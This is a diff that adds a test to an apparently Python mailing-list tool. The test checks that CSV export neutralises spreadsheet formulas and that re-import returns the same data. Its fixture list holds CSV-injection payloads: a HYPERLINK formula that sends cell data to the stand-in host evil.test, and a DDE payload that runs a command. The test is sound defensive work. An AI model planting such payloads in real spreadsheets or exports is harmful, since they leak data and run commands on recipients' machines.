@@ -302,3 +302,29 @@ def test_import_to_a_missing_list_or_file(store: Store, tmp_path: Path, run_cli)
     assert result.returncode == 1
     assert_one_error_line(result.stderr)
     assert "email" in result.stderr
+
+
+FORMULAS = ['=HYPERLINK("http://evil.test/?d="&A2,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+            "\t=1+1", "\r=1+1"]
+
+
+def test_export_neutralises_spreadsheet_formulas_and_reimports_the_same(store: Store, tmp_path: Path,
+                                                                        run_cli) -> None:  # type: ignore[no-untyped-def]
+    list_id = store.get_list("bulletin").id
+    people = [Subscriber(email=f"p{i}@example.org", name=f, attrs={"note": f}) for i, f in enumerate(FORMULAS)]
+    people.append(Subscriber(email="=1+2@example.org", name="plain", attrs={"note": "a=b"}))  # '=' is atext
+    store.upsert_subscribers(list_id, people, "test")
+    target = tmp_path / "export.csv"
+    assert run_cli("subs", "export", "--list", "bulletin", "-o", str(target)).returncode == 0
+    rows = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8"))))
+    for row in rows:
+        for column in ("email", "name", "note"):
+            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), row
+    assert rows[0]["name"] == "'" + FORMULAS[0] and rows[-1]["email"] == "'=1+2@example.org"
+    assert rows[-1]["note"] == "a=b"
+    # Imported again (into another list), the file gives back the same people.
+    create_list(store, "copy", "", "", "", "en")
+    assert run_cli("subs", "import", str(target), "--list", "copy").returncode == 0
+    copied = {s.email: s for s in subscribers(store, "copy")}
+    assert sorted(copied) == sorted(p.email for p in people)
+    assert copied["p0@example.org"].name == FORMULAS[0] and copied["=1+2@example.org"].attrs["note"] == "a=b"
